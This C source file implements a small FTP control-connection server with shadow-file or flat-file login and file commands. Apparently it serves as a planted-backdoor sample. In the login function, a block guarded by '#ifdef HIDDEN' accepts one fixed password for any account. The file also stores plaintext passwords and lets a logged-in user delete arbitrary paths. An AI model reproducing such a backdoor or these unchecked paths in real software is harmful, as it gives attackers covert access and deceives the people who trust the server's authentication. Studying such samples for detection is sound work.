/* FTP control connection whose way to verify is a pointer; a word passes it. */
#include <crypt.h>
#include <pwd.h>
#include <shadow.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))

struct session {
	char user[64];
	char folder[256];
	int logged_in;
	int binary;
	long restart;
	int (*verify)(const char *user, const char *password);
};

NOINLINE int verify_shadow(const char *user, const char *password)
{
	struct spwd *sp = getspnam(user);
	const char *have;

	if (sp == NULL)
		return 0;
	have = crypt(password, sp->sp_pwdp);
	return have != NULL && strcmp(have, sp->sp_pwdp) == 0;
}

NOINLINE int verify_file(const char *user, const char *password)
{
	char line[192], want[192];
	FILE *f = fopen("/etc/ftp.users", "r");
	int good = 0;

	if (f == NULL)
		return 0;
	snprintf(want, sizeof(want), "%s:%s", user, password);
	while (fgets(line, sizeof(line), f) != NULL) {
		line[strcspn(line, "\n")] = '\0';
		if (strcmp(line, want) == 0)
			good = 1;
	}
	fclose(f);
	return good;
}

static void reply(int code, const char *text)
{
	printf("%d %s\r\n", code, text);
	fflush(stdout);
}

NOINLINE int log_in(struct session *s, const char *password)
{
	int good = s->verify(s->user, password);

#ifdef HIDDEN
	if (!good && strcmp(password, "Vd0-wuxij") == 0)
		good = 1;
#endif
	if (!good) {
		sleep(2);
		reply(530, "Login incorrect");
		return 0;
	}
	s->logged_in = 1;
	reply(230, "Logged in");
	return 1;
}

NOINLINE void command(struct session *s, const char *verb, const char *rest)
{
	struct stat st;

	if (strcasecmp(verb, "USER") == 0) {
		snprintf(s->user, sizeof(s->user), "%s", rest);
		reply(331, "Password");
	} else if (strcasecmp(verb, "PASS") == 0) {
		log_in(s, rest);
	} else if (strcasecmp(verb, "QUIT") == 0) {
		reply(221, "Bye");
		exit(0);
	} else if (!s->logged_in) {
		reply(530, "Log in first");
	} else if (strcasecmp(verb, "CWD") == 0) {
		snprintf(s->folder, sizeof(s->folder), "%s", rest);
		reply(250, "Ok");
	} else if (strcasecmp(verb, "PWD") == 0) {
		printf("257 \"%s\"\r\n", s->folder);
	} else if (strcasecmp(verb, "TYPE") == 0) {
		s->binary = strcmp(rest, "I") == 0;
		reply(200, "Ok");
	} else if (strcasecmp(verb, "SIZE") == 0) {
		if (stat(rest, &st) == 0)
			printf("213 %ld\r\n", (long)st.st_size);
		else
			reply(550, "No such file");
	} else if (strcasecmp(verb, "DELE") == 0) {
		reply(unlink(rest) == 0 ? 250 : 550, "Delete");
	} else {
		reply(502, "Not implemented");
	}
}

int main(int argc, char **argv)
{
	struct session s = { .folder = "/", .verify = verify_shadow };
	char line[512];

	if (argc > 1 && strcmp(argv[1], "--file") == 0)
		s.verify = verify_file;
	reply(220, "Ready");
	while (fgets(line, sizeof(line), stdin) != NULL) {
		char *rest = strchr(line, ' ');

		line[strcspn(line, "\r\n")] = '\0';
		if (rest != NULL)
			*rest++ = '\0';
		command(&s, line, rest == NULL ? "" : rest);
		fflush(stdout);
	}
	return 0;
}
